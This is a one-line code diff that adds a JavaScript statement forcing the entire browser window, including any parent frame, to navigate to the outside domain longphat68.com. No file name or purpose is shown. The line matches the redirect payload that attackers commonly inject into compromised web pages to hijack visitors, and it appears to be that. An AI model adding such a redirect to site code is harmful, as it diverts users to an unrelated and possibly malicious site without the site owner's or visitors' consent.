@@ -1,0 +1,1 @@
+window.top.location.href='https://longphat68.com/';
